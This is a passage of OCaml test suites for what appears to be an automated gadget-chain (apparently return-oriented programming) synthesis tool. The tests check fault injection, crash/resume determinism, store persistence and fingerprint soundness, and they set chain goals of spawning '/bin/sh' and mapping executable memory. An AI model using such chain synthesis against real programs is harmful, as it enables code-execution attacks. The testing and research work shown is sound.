  let t0 = Unix.gettimeofday () in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      List.iter
        (fun goal ->
          let o =
            Gp_core.Api.run ~planner_config
              ~budget:(Gp_core.Budget.create ~label:"sweep" ~seconds:6. ())
              image goal
          in
          Alcotest.(check bool)
            (Gp_core.Goal.name goal ^ " well-formed") true (well_formed o);
          (* 10% decode faults over hundreds of starts: the quarantine
             ledger cannot be empty *)
          Alcotest.(check bool)
            (Gp_core.Goal.name goal ^ " quarantined some") true
            (o.Gp_core.Api.stats.Gp_core.Api.quarantined <> []))
        [ Gp_core.Goal.Execve "/bin/sh";
          Gp_core.Goal.Mmap (0L, 0x1000L, 7L) ]);
  (* termination inside the budget, with slack for the ladder *)
  Alcotest.(check bool) "terminates promptly" true
    (Unix.gettimeofday () -. t0 < 60.)

let test_summarize_r_consistency () =
  (* summarize is summarize_r's first component; no refusal on the
     synthetic program *)
  let image = synthetic_image () in
  let s, refused = Gp_symx.Exec.summarize_r image 0x400000L in
  Alcotest.(check bool) "no refusal" true (refused = None);
  Alcotest.(check int) "same summaries"
    (List.length (Gp_symx.Exec.summarize image 0x400000L))
    (List.length s)

(* ----- crash-safe resumable sweeps (DESIGN.md §13) ----- *)

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-resil-test-%d-%d" (Unix.getpid ()) !n)
    in
    Gp_harness.Experiments.rm_rf d;
    d

(* Atomic-save crash point (the fsync-before-rename fix): a process
   dying right before the rename leaves the previous store contents
   intact — the half-written temp file never shadows the target. *)
let test_save_rename_crash_keeps_old () =
  let dir = tmp_dir () in
  let path = Filename.concat dir "t.gpst" in
  let v1 = [ { Gp_util.Store.name = "s"; entries = [ ("k", "v1") ] } ] in
  (match Gp_util.Store.save ~schema:3 path v1 with
   | Ok () -> ()
   | Error e -> Alcotest.fail ("seed save: " ^ e));
  let v2 = [ { Gp_util.Store.name = "s"; entries = [ ("k", "v2") ] } ] in
  (match
     Gp_harness.Faultsim.with_crash_at ~point:"save-rename" (fun () ->
         Gp_util.Store.save ~schema:3 path v2)
   with
   | Error "save-rename" -> ()
   | Ok _ -> Alcotest.fail "crash fuse did not fire"
   | Error p -> Alcotest.fail ("wrong point: " ^ p));
  (match Gp_util.Store.load ~schema:3 path with
   | Ok s -> Alcotest.(check bool) "old contents intact" true (s = v1)
   | Error e ->
     Alcotest.fail ("reload: " ^ Gp_util.Store.error_reason e));
  Gp_harness.Experiments.rm_rf dir

(* Store-independent analysis fingerprint (as in test_incr), minus the
   store-health quarantine labels a recovered run legitimately adds. *)
let incr_fingerprint (a : Gp_core.Api.analysis) =
  ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
      a.Gp_core.Api.gadgets,
    a.Gp_core.Api.raw_extracted,
    List.filter
      (fun (label, _) ->
        label <> "store" && label <> "store-locked" && label <> "wal-torn")
      a.Gp_core.Api.quarantined,
    a.Gp_core.Api.analysis_budget_hits )

(* Truncating the store journal at assorted byte boundaries (including
   mid-header and zero) must never raise, and a warm run over the
   damaged journal must equal the cold run bit for bit: the valid
   prefix replays, the tail is recomputed. *)
let test_incr_wal_truncation_demotes_cleanly () =
  let dir = tmp_dir () in
  let image = Lazy.force fib_image in
  Gp_harness.Experiments.reset_world ();
  let jo = Gp_core.Incr.journal_open ~dir in
  (match jo.Gp_core.Incr.jo_mode with
   | `Journaling -> ()
   | `Read_only why -> Alcotest.fail ("unexpected demotion: " ^ why));
  ignore (Gp_core.Api.analyze ~jobs:1 image);
  (match Gp_core.Incr.journal_checkpoint () with
   | Ok _ -> ()
   | Error e -> Alcotest.fail ("checkpoint: " ^ e));
  (* die without compacting: the WAL is the only copy on disk *)
  Gp_core.Incr.journal_abandon ();
  let wal = Gp_core.Incr.wal_path ~dir in
  let size = (Unix.stat wal).Unix.st_size in
  Alcotest.(check bool) "journal captured summaries" true (size > 100);
  Gp_harness.Experiments.reset_world ();
  let reference = incr_fingerprint (Gp_core.Api.analyze ~jobs:1 image) in
  List.iter
    (fun k ->
      Gp_harness.Faultsim.truncate_file ~k wal;
      (* keep the WAL the only source: analyze re-saves a base store *)
      (try Sys.remove (Gp_core.Incr.path ~dir) with Sys_error _ -> ());
      Gp_harness.Experiments.reset_world ();
      (match Gp_core.Incr.load ~dir with
       | Gp_core.Incr.Loaded _ | Gp_core.Incr.Absent
       | Gp_core.Incr.Rejected _ -> ());
      Gp_harness.Experiments.reset_world ();
      let warm = Gp_core.Api.analyze ~cache_dir:dir ~jobs:1 image in
      Alcotest.(check bool)
        (Printf.sprintf "truncated at %d: identical to cold" k)
        true
        (incr_fingerprint warm = reference))
    [ size - 1; size * 3 / 4; size / 2; 21; 20; 7; 0 ];
  Gp_harness.Experiments.rm_rf dir

(* The acceptance differential: kill a checkpointed sweep at each
   injected crash point, resume it in a fresh world, and require the
   resumed sweep's encoded payloads to equal an uninterrupted
   reference byte for byte.  JOBS sweeps the job count (make
   check-resume runs 1 and 4). *)
let crash_cells ~jobs () =
  Gp_harness.Experiments.resume_cell_fns
    ~entries:[ Gp_corpus.Programs.find "fibonacci" ]
    ~configs:
      (List.filter
         (fun (n, _) -> n = "original" || n = "tigress")
         Gp_harness.Workspace.obf_configs)
    ~quick:true ~jobs ~goal:(Gp_core.Goal.Execve "/bin/sh") ()

let sweep_payloads outcomes =
  List.map
    (fun (c : Gp_harness.Experiments.resume_payload
             Gp_harness.Runner.cell_outcome) ->
      match c.Gp_harness.Runner.c_result with
      | Ok p ->
        (c.Gp_harness.Runner.c_key,
         Gp_harness.Experiments.resume_payload_encode p)
      | Error f ->
        (c.Gp_harness.Runner.c_key, "FAIL:" ^ Gp_core.Fail.label f))
    outcomes

let check_crash_resume jobs () =
  let refdir = tmp_dir () in
  Gp_harness.Experiments.reset_world ();
  let ro, _, _ =
    Gp_harness.Experiments.resume_sweep ~dir:refdir ~resume:false
      (crash_cells ~jobs ())
  in
  let reference = sweep_payloads ro in
  Gp_harness.Experiments.rm_rf refdir;
  Alcotest.(check int) "reference covers the grid" 2 (List.length reference);
  List.iter
    (fun (point, hits) ->
      let dir = tmp_dir () in
      Gp_harness.Experiments.reset_world ();
      let crashed =
        match
          Gp_harness.Faultsim.with_crash_at ~hits ~point (fun () ->
              Gp_harness.Experiments.resume_sweep ~dir ~resume:false
                (crash_cells ~jobs ()))
        with
        | Ok _ -> false
        | Error p ->
          Alcotest.(check string) "died at the armed point" point p;
          true
      in
      Alcotest.(check bool) (point ^ ": fuse fired") true crashed;
      Gp_harness.Experiments.reset_world ();
      let ro2, report, _ =
        Gp_harness.Experiments.resume_sweep ~dir ~resume:true
          (crash_cells ~jobs ())
      in
      Alcotest.(check bool)
        (Printf.sprintf "%s (jobs %d): resume == uninterrupted" point jobs)
        true
        (sweep_payloads ro2 = reference);
      Alcotest.(check int)
        (point ^ ": resume covers everything")
        2
        (report.Gp_harness.Runner.r_resumed
         + report.Gp_harness.Runner.r_computed);
      Gp_harness.Experiments.rm_rf dir)
    [ ("wal-append", 5); ("mid-stage", 2); ("save-rename", 1) ]

let suite =
  [ Alcotest.test_case "budget fuel" `Quick test_budget_fuel;
    Alcotest.test_case "budget deadline + monotonic clock" `Quick
      test_budget_deadline_and_monotonic_clock;
    Alcotest.test_case "budget sub inheritance" `Quick
      test_budget_sub_inherits_deadline;
    Alcotest.test_case "emu fuel scaling" `Quick test_emu_fuel;
    Alcotest.test_case "fail tallies" `Quick test_fail_tally;
    Alcotest.test_case "timeout vs fault" `Quick test_timeout_vs_fault;
    Alcotest.test_case "validate_run distinguishes" `Slow
      test_validate_run_distinguishes;
    Alcotest.test_case "truncated decode at edge" `Quick
      test_truncated_decode_at_edge;
    Alcotest.test_case "chaos decode quarantines" `Quick
      test_chaos_decode_quarantines;
    Alcotest.test_case "harvest budget cuts short" `Quick
      test_harvest_budget_cuts_short;
    Alcotest.test_case "subsume budget passes through" `Quick
      test_subsume_budget_passes_through;
    Alcotest.test_case "planner budget hit" `Quick test_planner_budget_hit;
    Alcotest.test_case "faultsim solver unknowns" `Quick
      test_faultsim_solver_unknowns;
    Alcotest.test_case "faultsim machine fuse" `Quick
      test_faultsim_machine_fuse;
    Alcotest.test_case "faultsim clock skips" `Quick test_faultsim_clock_skips;
    Alcotest.test_case "run matches seed pipeline" `Slow
      test_run_matches_seed_pipeline;
    Alcotest.test_case "ladder descends on zero chains" `Quick
      test_ladder_descends_on_zero_chains;
    Alcotest.test_case "dead budget still well-formed" `Quick
      test_run_with_dead_budget;
    Alcotest.test_case "sweep under 10% injection" `Slow
      test_sweep_under_injection;
    Alcotest.test_case "summarize_r consistency" `Quick
      test_summarize_r_consistency;
    Alcotest.test_case "save-rename crash keeps old store" `Quick
      test_save_rename_crash_keeps_old;
    Alcotest.test_case "store WAL truncation demotes cleanly" `Slow
      test_incr_wal_truncation_demotes_cleanly;
    Alcotest.test_case
      (Printf.sprintf "crash/resume differential (jobs %d)" jobs_under_test)
      `Slow
      (check_crash_resume jobs_under_test) ]
