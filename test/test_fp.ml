(* Semantic fingerprint index tests (DESIGN.md §17).  Four angles:

   - qcheck soundness: each lane of [Fpeval.eval] equals a plain
     [Term.eval] under that lane's screen-point valuation (the batched
     walk is just an amortization), [closed] is exactly
     variable-freeness, the formula bitmask agrees with [Formula.eval]
     lane by lane — and lane-0/1 inequality implies
     [Solver.prove_equal] returns false whichever way the fp and
     screening toggles point (those lanes ARE the prover's
     deterministic trials 0/1, which is why only they may refute
     equality);
   - differential: the full pipeline with fingerprints ENABLED is
     bit-identical to --no-fp across the 21-cell survey at jobs 1 and
     4 — pools, chains, quarantine ledgers, budget accounting.  The
     fp tallies themselves are excluded (they are what the ablation
     toggles), cache/screen counters as in test_screen;
   - counter discipline: [fp_refuted] counts per probe answered, so it
     is invariant across job counts; the store hit/miss SPLIT is
     temperature (racing domains may duplicate a compute) but the SUM
     is one bump per candidate fingerprinted and must be invariant.
     A 10% keyed fault sweep stays deterministic across jobs 1/2/4
     with the index on, refutation tally included;
   - persistence: the fp codec round-trips, a warm run answers every
     fingerprint from the "fingerprints" store section (hits > 0,
     misses = 0, verdicts unchanged), and a v2-schema store file —
     the pre-fingerprint layout — demotes the run to cold through the
     stale/quarantine path rather than being misread. *)

let jobs_under_test =
  match Sys.getenv_opt "JOBS" with
  | Some s -> (try max 1 (int_of_string s) with _ -> 4)
  | None -> 4

module Fpeval = Gp_smt.Fpeval

let compile prog cname =
  let entry = Gp_corpus.Programs.find prog in
  let cfg = List.assoc cname Gp_harness.Workspace.obf_configs in
  Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
    entry.Gp_corpus.Programs.source

let with_fp enabled f =
  Fpeval.set_enabled enabled;
  Fun.protect ~finally:(fun () -> Fpeval.set_enabled true) f

let with_screen enabled f =
  Gp_smt.Solver.set_screen_enabled enabled;
  Fun.protect
    ~finally:(fun () -> Gp_smt.Solver.set_screen_enabled true)
    f

(* ----- qcheck soundness ----- *)

let rec has_var (t : Gp_smt.Term.t) =
  match t with
  | Gp_smt.Term.Var _ -> true
  | Gp_smt.Term.Const _ -> false
  | Gp_smt.Term.Add (a, b) | Gp_smt.Term.Sub (a, b) | Gp_smt.Term.Mul (a, b)
  | Gp_smt.Term.And (a, b) | Gp_smt.Term.Or (a, b) | Gp_smt.Term.Xor (a, b)
  | Gp_smt.Term.Shl (a, b) | Gp_smt.Term.Shr (a, b) | Gp_smt.Term.Sar (a, b)
    -> has_var a || has_var b
  | Gp_smt.Term.Neg a | Gp_smt.Term.Not a -> has_var a

let qcheck_lanes_sound =
  Gen.qtest "Fpeval lane k = Term.eval under screen point k" ~count:500
    Gen.term
    (fun t ->
      let l = Fpeval.eval t in
      l.Fpeval.closed = not (has_var t)
      && Array.length l.Fpeval.lv = Fpeval.nlanes
      && Array.for_all Fun.id
           (Array.mapi
              (fun k pt ->
                l.Fpeval.lv.(k) = Gp_smt.Term.eval (Fpeval.point_model pt) t)
              Fpeval.points))

let qcheck_formula_mask_sound =
  let all _ = true in
  Gen.qtest "formula_mask bit k = Formula.eval under point k" ~count:500
    Gen.formula
    (fun f ->
      let m = Fpeval.formula_mask ~readable:all ~writable:all f in
      m land lnot Fpeval.full_mask = 0
      && Array.for_all Fun.id
           (Array.mapi
              (fun k pt ->
                (m lsr k) land 1
                = (if Gp_smt.Formula.eval ~readable:all ~writable:all
                        (Fpeval.point_model pt) f
                   then 1 else 0))
              Fpeval.points))

let qcheck_conj_mask_sound =
  let all _ = true in
  Gen.qtest "conj_mask = AND of formula_masks" ~count:300 Gen.formulas
    (fun fs ->
      Fpeval.conj_mask ~readable:all ~writable:all fs
      = List.fold_left
          (fun acc f ->
            acc land Fpeval.formula_mask ~readable:all ~writable:all f)
          Fpeval.full_mask fs)

(* Lanes 0/1 are the valuations the real prover tries deterministically
   first, so disagreement there refutes equality on every code path —
   with the index on (the O(1) pre-check), with it off but screening on
   (Tier B), and with both off (the prover's own trials). *)
let qcheck_fp_neq_refutes =
  Gen.qtest "lane-0/1 inequality implies prove_equal = false" ~count:300
    QCheck2.Gen.(pair Gen.term Gen.term)
    (fun (a, b) ->
      let la = (Fpeval.eval a).Fpeval.lv and lb = (Fpeval.eval b).Fpeval.lv in
      la.(0) = lb.(0) && la.(1) = lb.(1)
      || (not (with_fp true (fun () -> Gp_smt.Solver.prove_equal a b)))
         && (not (with_fp false (fun () -> Gp_smt.Solver.prove_equal a b)))
         && not
              (with_fp false (fun () ->
                   with_screen false (fun () ->
                       Gp_smt.Solver.prove_equal a b))))

(* ----- differential: fp on vs --no-fp, 21 cells, jobs 1 and 4 ----- *)

let diff_programs =
  [ "fibonacci"; "gcd_lcm"; "bubble_sort"; "string_reverse";
    "crc_check"; "bitcount"; "prime_sieve" ]

let planner_config =
  { Gp_core.Planner.max_plans = 2; node_budget = 600; time_budget = 10.;
    branch_cap = 10; goal_cap = 6; max_steps = 14 }

(* Everything in the outcome that must not depend on the toggle or the
   job count; fp/screen/cache tallies deliberately absent (header). *)
type fingerprint = {
  f_extracted : int;
  f_deduped : int;
  f_pool_size : int;
  f_plans_found : int;
  f_chains : string list;
  f_quarantined : (string * int) list;
  f_budget_hits : string list;
  f_plan_counters : int * int * int * int * int;
  f_validate : int * int;
  f_rungs : string list;
}

let fingerprint (o : Gp_core.Api.outcome) =
  let s = o.Gp_core.Api.stats in
  { f_extracted = s.Gp_core.Api.extracted;
    f_deduped = s.Gp_core.Api.deduped;
    f_pool_size = s.Gp_core.Api.pool_size;
    f_plans_found = s.Gp_core.Api.plans_found;
    f_chains =
      List.sort compare
        (List.map Gp_core.Payload.chain_key o.Gp_core.Api.chains);
    f_quarantined = s.Gp_core.Api.quarantined;
    f_budget_hits = s.Gp_core.Api.budget_hits;
    f_plan_counters =
      ( s.Gp_core.Api.plan_expanded, s.Gp_core.Api.plan_peak_queue,
        s.Gp_core.Api.plan_inst_hits, s.Gp_core.Api.plan_cand_hits,
        s.Gp_core.Api.plan_discarded );
    f_validate = (s.Gp_core.Api.validate_faults, s.Gp_core.Api.validate_timeouts);
    f_rungs = List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs }

let run_once ~jobs image =
  Gp_core.Gadget.reset_ids ();
  Gp_core.Api.run ~planner_config ~jobs image (Gp_core.Goal.Execve "/bin/sh")

let test_differential () =
  List.iter
    (fun pname ->
      let entry = Gp_corpus.Programs.find pname in
      List.iter
        (fun (cname, cfg) ->
          let image =
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source
          in
          let cell = Printf.sprintf "%s/%s" pname cname in
          let off1 = with_fp false (fun () -> fingerprint (run_once ~jobs:1 image)) in
          let on1 = with_fp true (fun () -> fingerprint (run_once ~jobs:1 image)) in
          let off4 = with_fp false (fun () -> fingerprint (run_once ~jobs:4 image)) in
          let on4 = with_fp true (fun () -> fingerprint (run_once ~jobs:4 image)) in
          Alcotest.(check bool) (cell ^ " jobs=1 identical") true (off1 = on1);
          Alcotest.(check bool) (cell ^ " jobs=4 identical") true (off4 = on4);
          Alcotest.(check bool) (cell ^ " jobs invariant") true (on1 = on4))
        Gp_harness.Workspace.obf_configs)
    diff_programs

(* ----- counter discipline under Par ----- *)

let test_counters_deterministic () =
  let image = compile "fibonacci" "tigress" in
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let snapshot jobs =
    Gp_harness.Experiments.reset_world ();
    let o = Gp_core.Api.run ~planner_config ~jobs image goal in
    let st = o.Gp_core.Api.stats in
    ( st.Gp_core.Api.fp_refuted,
      (* the hit/miss SPLIT is temperature (first-write races), the SUM
         is one bump per candidate fingerprinted — deterministic *)
      st.Gp_core.Api.fp_hits + st.Gp_core.Api.fp_misses )
  in
  let s1 = snapshot 1 in
  Alcotest.(check bool) "jobs=2 fp counters" true (snapshot 2 = s1);
  Alcotest.(check bool) "jobs=4 fp counters" true (snapshot 4 = s1);
  let refuted, traffic = s1 in
  Alcotest.(check bool) "the index fires on an obfuscated cell" true
    (refuted > 0 && traffic > 0)

(* ----- fault injection with the index on ----- *)

let test_faults_deterministic_with_fp () =
  let image = compile "fibonacci" "tigress" in
  Alcotest.(check bool) "index on" true (Fpeval.enabled ());
  let cfg = Gp_harness.Faultsim.uniform ~seed:17 0.1 in
  Gp_harness.Faultsim.with_faults cfg (fun () ->
      let sweep jobs =
        Gp_harness.Experiments.reset_world ();
        let gs, st = Gp_core.Extract.harvest_r ~jobs image in
        let minimal, _ = Gp_core.Subsume.minimize ~jobs gs in
        let h, m = Gp_core.Incr.fp_store_stats () in
        ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr) minimal,
          st.Gp_core.Extract.h_quarantined,
          Fpeval.refutations (),
          h + m )
      in
      let s1 = sweep 1 in
      Alcotest.(check bool) "jobs=2 sweep" true (sweep 2 = s1);
      Alcotest.(check bool) "jobs=4 sweep" true (sweep 4 = s1);
      (* the same sweep with the index off keeps the same survivors *)
      let addrs_off =
        with_fp false (fun () ->
            let _, _, _, _ = sweep 1 in
            ());
        with_fp false (fun () ->
            Gp_harness.Experiments.reset_world ();
            let gs, _ = Gp_core.Extract.harvest_r ~jobs:1 image in
            let minimal, _ = Gp_core.Subsume.minimize ~jobs:1 gs in
            List.map
              (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
              minimal)
      in
      let addrs_on, tally, _, _ = s1 in
      Alcotest.(check bool) "off/on identical under faults" true
        (addrs_off = addrs_on);
      (* the sweep must actually be injecting *)
      match List.assoc_opt "decode" tally with
      | Some n when n > 0 -> ()
      | _ -> Alcotest.fail "no decode faults quarantined at 10%")

(* ----- persistence ----- *)

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-fp-test-%d-%d" (Unix.getpid ()) !n)
    in
    Gp_harness.Experiments.rm_rf d;
    d

let qcheck_fp_codec_roundtrip =
  Gen.qtest "fp codec round-trips" ~count:300
    QCheck2.Gen.(
      pair
        (string_size ~gen:(char_range '\000' '\255') (int_range 0 80))
        (int_range 0 Fpeval.full_mask))
    (fun (eq, pre) ->
      let fp = { Gp_core.Gadget.fp_eq = eq; fp_pre = pre } in
      let b = Buffer.create 32 in
      Gp_core.Gadget.put_fp b fp;
      Gp_core.Gadget.get_fp (Buffer.contents b) (ref 0) = fp)

let analysis_fingerprint (a : Gp_core.Api.analysis) =
  ( List.map (fun (g : Gp_core.Gadget.t) -> g.Gp_core.Gadget.addr)
      a.Gp_core.Api.gadgets,
    a.Gp_core.Api.raw_extracted,
    List.filter (fun (label, _) -> label <> "store") a.Gp_core.Api.quarantined )

let analyze ?cache_dir image =
  Gp_harness.Experiments.reset_world ();
  Gp_core.Api.analyze ~jobs:jobs_under_test ?cache_dir image

let test_store_roundtrip () =
  let image = compile "fibonacci" "llvm-obf" in
  let reference = analyze image in
  (* even without a store, content-duplicate gadgets share one
     fingerprint through the in-run table — hits can be nonzero cold *)
  let rh, rm, _ = reference.Gp_core.Api.analysis_fp in
  Alcotest.(check bool) "no store: fingerprints computed" true (rm > 0);
  let dir = tmp_dir () in
  let cold = analyze ~cache_dir:dir image in
  Alcotest.(check bool) "cold run identical" true
    (analysis_fingerprint cold = analysis_fingerprint reference);
  let warm = analyze ~cache_dir:dir image in
  let wh, wm, _ = warm.Gp_core.Api.analysis_fp in
  Alcotest.(check bool) "warm run identical" true
    (analysis_fingerprint warm = analysis_fingerprint reference);
  Alcotest.(check int) "warm run misses nothing" 0 wm;
  (* total calls are one per candidate fingerprinted — deterministic —
     and a warm run answers every one from the table *)
  Alcotest.(check int) "warm run answers from the fp section" (rh + rm) wh;
  (* refutation tallies agree at every temperature *)
  let _, _, rr = reference.Gp_core.Api.analysis_fp in
  let _, _, wr = warm.Gp_core.Api.analysis_fp in
  Alcotest.(check int) "refutations temperature-invariant" rr wr;
  Gp_harness.Experiments.rm_rf dir

(* A v2-layout store file predates the fingerprints section: the
   schema bump must reject it as stale — cold results, store_stale
   counted, a "store" quarantine entry — never a misread. *)
let test_v2_store_demoted () =
  Alcotest.(check int) "this suite was written for schema v3" 3
    Gp_core.Incr.schema_version;
  let image = compile "fibonacci" "llvm-obf" in
  let reference = analysis_fingerprint (analyze image) in
  let dir = tmp_dir () in
  ignore (analyze ~cache_dir:dir image);
  let path = Gp_core.Incr.path ~dir in
  (match Gp_util.Store.save ~schema:2 path [] with
  | Ok () -> ()
  | Error why -> Alcotest.fail ("could not write v2 store: " ^ why));
  let a = analyze ~cache_dir:dir image in
  Alcotest.(check bool) "v2: results identical to cold" true
    (analysis_fingerprint a = reference);
  Alcotest.(check int) "v2: store counted as stale" 1
    a.Gp_core.Api.analysis_store_stale;
  Alcotest.(check int) "v2: nothing imported" 0
    a.Gp_core.Api.analysis_store_loaded;
  Alcotest.(check int) "v2: quarantine ledger records it" 1
    (try List.assoc "store" a.Gp_core.Api.quarantined with Not_found -> 0);
  (* a rejected store never breaks the warm path afterwards *)
  ignore (analyze ~cache_dir:dir image);
  let warm = analyze ~cache_dir:dir image in
  let _, wm, _ = warm.Gp_core.Api.analysis_fp in
  Alcotest.(check bool) "store recovers after re-prime" true
    (warm.Gp_core.Api.analysis_store_loaded > 0
     && wm = 0
     && analysis_fingerprint warm = reference);
  Gp_harness.Experiments.rm_rf dir

let suite =
  [ qcheck_lanes_sound;
    qcheck_formula_mask_sound;
    qcheck_conj_mask_sound;
    qcheck_fp_neq_refutes;
    Alcotest.test_case "differential fp on vs off (21 cells)" `Slow
      test_differential;
    Alcotest.test_case "fp counters deterministic" `Quick
      test_counters_deterministic;
    Alcotest.test_case "faults deterministic with the index" `Quick
      test_faults_deterministic_with_fp;
    qcheck_fp_codec_roundtrip;
    Alcotest.test_case "fp section round-trips through the store" `Quick
      test_store_roundtrip;
    Alcotest.test_case "v2 store demotes to cold" `Quick
      test_v2_store_demoted ]
