(* Supervised corpus runner tests (DESIGN.md §13): deterministic
   backoff, transient/permanent classification, per-cell retry
   supervision, and the WAL-backed checkpoint manifest that makes
   sweeps resumable.  The crash-injection differential (resume ≡
   uninterrupted under simulated process death) lives in
   test_resilience; this suite covers the runner's own mechanics. *)

open Gp_harness

let tmp_dir =
  let n = ref 0 in
  fun () ->
    incr n;
    let d =
      Filename.concat (Filename.get_temp_dir_name ())
        (Printf.sprintf "gp-runner-test-%d-%d" (Unix.getpid ()) !n)
    in
    Gp_harness.Experiments.rm_rf d;
    d

(* Record backoff sleeps instead of performing them. *)
let with_sleep_recorder f =
  let slept = ref [] in
  let saved = !Runner.sleep_hook in
  Runner.sleep_hook := (fun s -> slept := s :: !slept);
  Fun.protect
    ~finally:(fun () -> Runner.sleep_hook := saved)
    (fun () ->
      let r = f () in
      (r, List.rev !slept))

(* ----- backoff ----- *)

let test_backoff_deterministic () =
  let p = Runner.default_policy in
  let d1 = Runner.backoff_delay p ~key:"fib/ollvm" ~attempt:1 in
  let d1' = Runner.backoff_delay p ~key:"fib/ollvm" ~attempt:1 in
  Alcotest.(check (float 0.)) "same args, same delay" d1 d1';
  (* jitter stays inside the advertised band *)
  List.iter
    (fun attempt ->
      let base = p.Runner.base_delay_s *. (2. ** float_of_int (attempt - 1)) in
      let capped = Float.min base p.Runner.max_delay_s in
      let d = Runner.backoff_delay p ~key:"k" ~attempt in
      Alcotest.(check bool)
        (Printf.sprintf "attempt %d in band" attempt)
        true
        (d >= capped *. (1. -. p.Runner.jitter)
        && d <= capped *. (1. +. p.Runner.jitter)))
    [ 1; 2; 3; 7 ];
  (* jitter off: exact doubling, capped *)
  let flat = { p with Runner.jitter = 0. } in
  Alcotest.(check (float 0.)) "no jitter attempt 1" p.Runner.base_delay_s
    (Runner.backoff_delay flat ~key:"k" ~attempt:1);
  Alcotest.(check (float 0.)) "no jitter attempt 2"
    (2. *. p.Runner.base_delay_s)
    (Runner.backoff_delay flat ~key:"k" ~attempt:2);
  Alcotest.(check (float 0.)) "cap reached" p.Runner.max_delay_s
    (Runner.backoff_delay flat ~key:"k" ~attempt:30)

let test_backoff_keyed_by_cell () =
  let p = Runner.default_policy in
  Alcotest.(check bool) "different cells, different jitter" true
    (Runner.backoff_delay p ~key:"a" ~attempt:1
     <> Runner.backoff_delay p ~key:"b" ~attempt:1)

(* ----- classification ----- *)

let test_classify () =
  let t f = Runner.classify f = `Transient in
  Alcotest.(check bool) "solver timeout transient" true
    (t (Gp_core.Fail.Solver_timeout "q"));
  Alcotest.(check bool) "budget transient" true
    (t (Gp_core.Fail.Budget_exhausted ("cell", `Time)));
  Alcotest.(check bool) "decode permanent" false
    (t (Gp_core.Fail.Decode_fault (0x400000L, "bad")));
  Alcotest.(check bool) "emu fault permanent" false
    (t (Gp_core.Fail.Emu_fault "unmapped"));
  Alcotest.(check bool) "store permanent" false
    (t (Gp_core.Fail.Store_rejected "corrupt"));
  Alcotest.(check bool) "solver unknown permanent" false
    (t (Gp_core.Fail.Solver_unknown "q"))

(* ----- run_cell supervision ----- *)

let policy =
  { Runner.default_policy with
    Runner.max_attempts = 3; base_delay_s = 0.1; jitter = 0. }

let test_run_cell_retries_transient () =
  let calls = ref 0 in
  let (result, retries), slept =
    with_sleep_recorder (fun () ->
        Runner.run_cell ~policy ~key:"cell" (fun ~attempt _b ->
            incr calls;
            Alcotest.(check int) "attempt number" !calls attempt;
            if attempt < 3 then Error (Gp_core.Fail.Solver_timeout "slow")
            else Ok "done"))
  in
  Alcotest.(check bool) "succeeded" true (result = Ok "done");
  Alcotest.(check int) "two retries" 2 retries;
  Alcotest.(check (list (float 0.))) "backoff schedule" [ 0.1; 0.2 ] slept

let test_run_cell_permanent_no_retry () =
  let calls = ref 0 in
  let (result, retries), slept =
    with_sleep_recorder (fun () ->
        Runner.run_cell ~policy ~key:"cell" (fun ~attempt:_ _b ->
            incr calls;
            Error (Gp_core.Fail.Decode_fault (0x400000L, "bad"))))
  in
  Alcotest.(check bool) "failed" true (Result.is_error result);
  Alcotest.(check int) "single attempt" 1 !calls;
  Alcotest.(check int) "no retries" 0 retries;
  Alcotest.(check (list (float 0.))) "no sleeps" [] slept

let test_run_cell_gives_up () =
  let calls = ref 0 in
  let (result, retries), slept =
    with_sleep_recorder (fun () ->
        Runner.run_cell ~policy ~key:"cell" (fun ~attempt:_ _b ->
            incr calls;
            Error (Gp_core.Fail.Budget_exhausted ("stage", `Fuel))))
  in
  Alcotest.(check bool) "still failed" true (Result.is_error result);
  Alcotest.(check int) "all attempts used" policy.Runner.max_attempts !calls;
  Alcotest.(check int) "retries = attempts - 1" (policy.Runner.max_attempts - 1)
    retries;
  Alcotest.(check int) "slept between attempts"
    (policy.Runner.max_attempts - 1)
    (List.length slept)

let test_run_cell_catches_budget_exhausted () =
  (* an escaped watchdog exception counts as a transient failure *)
  let (result, retries), _ =
    with_sleep_recorder (fun () ->
        Runner.run_cell ~policy ~key:"cell" (fun ~attempt _b ->
            if attempt = 1 then
              raise (Gp_core.Budget.Exhausted ("cell:x", Gp_core.Budget.Deadline))
            else Ok attempt))
  in
  Alcotest.(check bool) "recovered on retry" true (result = Ok 2);
  Alcotest.(check int) "one retry" 1 retries

let test_run_cell_fresh_watchdog_per_attempt () =
  let p = { policy with Runner.attempt_seconds = Some 1000. } in
  let _, _ =
    with_sleep_recorder (fun () ->
        Runner.run_cell ~policy:p ~key:"cell" (fun ~attempt:_ b ->
            Alcotest.(check bool) "watchdog fresh" false
              (Gp_core.Budget.exhausted b);
            Error (Gp_core.Fail.Solver_timeout "again")))
  in
  ()

(* ----- checkpoint manifest ----- *)

let test_manifest_roundtrip () =
  let dir = tmp_dir () in
  let m = Runner.Manifest.open_ ~dir in
  Alcotest.(check bool) "writer" true (Runner.Manifest.read_only m = None);
  Runner.Manifest.record m ~key:"a" ~payload:"payload-a";
  Runner.Manifest.record m ~key:"b" ~payload:"payload-b";
  Alcotest.(check int) "completed" 2 (Runner.Manifest.completed m);
  Runner.Manifest.close m;
  let m2 = Runner.Manifest.open_ ~dir in
  Alcotest.(check int) "replayed" 2 (Runner.Manifest.replayed m2);
  Alcotest.(check bool) "payload back" true
    (match Runner.Manifest.find m2 "b" with
     | Some e -> e.Runner.Manifest.e_payload = "payload-b"
     | None -> false);
  Alcotest.(check int) "clean tail" 0 (Runner.Manifest.torn_bytes m2);
  Runner.Manifest.close m2;
  Gp_harness.Experiments.rm_rf dir

let test_manifest_rerecord_wins_last () =
  let dir = tmp_dir () in
  let m = Runner.Manifest.open_ ~dir in
